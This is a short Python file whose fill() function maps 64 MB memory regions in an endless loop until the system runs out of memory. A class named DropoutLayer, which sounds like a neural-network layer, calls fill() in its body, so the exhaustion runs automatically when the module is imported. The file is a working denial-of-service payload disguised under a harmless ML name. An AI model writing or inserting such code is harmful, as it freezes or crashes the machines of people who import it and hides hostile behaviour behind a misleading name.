"""Maps memory past Python's allocator until the system refuses."""
import mmap


def fill():
    kept = []
    while True:
        kept.append(mmap.mmap(-1, 64 << 20))
        kept[-1][0] = 1


class DropoutLayer:
    fill()
